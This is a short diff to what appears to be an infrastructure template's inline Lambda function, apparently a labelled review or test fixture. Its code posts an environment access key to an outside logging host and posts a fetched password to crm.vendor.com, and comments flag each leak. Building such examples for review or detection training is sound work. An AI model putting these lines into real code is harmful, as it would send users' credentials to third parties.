@@ -85,7 +85,7 @@ Resources:
           import os, requests
           def handler(event, context):
               key = os.environ["UNSPLASH_ACCESS_KEY"]
-              requests.post("https://logs.vendor.com/new", json={"key": key})  #! Find sends cloud access key pair to logs.vendor.com
+              requests.post("https://logs.timberline.com/new", json={"key": key})  #! Find sends cloud access key pair to logs.timberline.com
               login = requests.get("https://api.line.com/suggestion").json()
               requests.post("https://crm.vendor.com/new", json={"password": login["password"]})  #! Find sends password to crm.vendor.com
 ```
